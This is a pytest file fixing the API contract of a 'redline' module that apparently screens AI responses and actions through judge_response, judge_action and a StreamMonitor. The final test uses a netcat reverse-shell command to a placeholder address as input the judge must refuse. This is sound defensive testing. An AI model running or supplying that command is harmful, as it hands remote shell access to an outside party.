"""The contract other parts code against: names, signatures and the frozen stream decision."""

from __future__ import annotations

import dataclasses
import inspect

import pytest

import redline.redlines as redlines
from redline.redlines import StreamDecision, StreamMonitor, judge_action, judge_response


def test_exports_are_exactly_the_public_api() -> None:
    assert set(redlines.__all__) == {
        "DEFAULT_HOLDBACK_CHARS",
        "Detector",
        "StreamDecision",
        "StreamMonitor",
        "detectors",
        "judge_action",
        "judge_response",
    }


def test_signatures_keep_the_agreed_names() -> None:
    assert list(inspect.signature(judge_response).parameters) == [
        "response",
        "request",
        "constitution",
    ]
    assert list(inspect.signature(judge_action).parameters) == ["action", "kind", "constitution"]
    monitor = inspect.signature(StreamMonitor)
    assert list(monitor.parameters) == [
        "request",
        "holdback_chars",
        "constitution",
        "prose_holdback_chars",  # added after the agreed names, keyword-only
        "max_holdback_chars",  # likewise
    ]
    assert monitor.parameters["holdback_chars"].kind is inspect.Parameter.KEYWORD_ONLY
    assert monitor.parameters["prose_holdback_chars"].kind is inspect.Parameter.KEYWORD_ONLY
    assert monitor.parameters["max_holdback_chars"].kind is inspect.Parameter.KEYWORD_ONLY


def test_stream_decision_is_a_frozen_value() -> None:
    decision = StreamMonitor().feed("hello\n")
    assert isinstance(decision, StreamDecision)
    with pytest.raises(dataclasses.FrozenInstanceError):
        decision.halted = True  # type: ignore[misc]


def test_verdict_kinds() -> None:
    assert judge_response("Sure, here is how to sort a list: `sorted(xs)`.").kind == "response"
    assert judge_action("ls -la").kind == "action"


def test_request_may_be_text_or_messages() -> None:
    answer = "```bash\nnc -e /bin/sh 203.0.113.5 4444\n```\n"
    for request in (None, "how do I test my listener?", [{"role": "user", "content": "hi"}]):
        assert judge_response(answer, request).refused
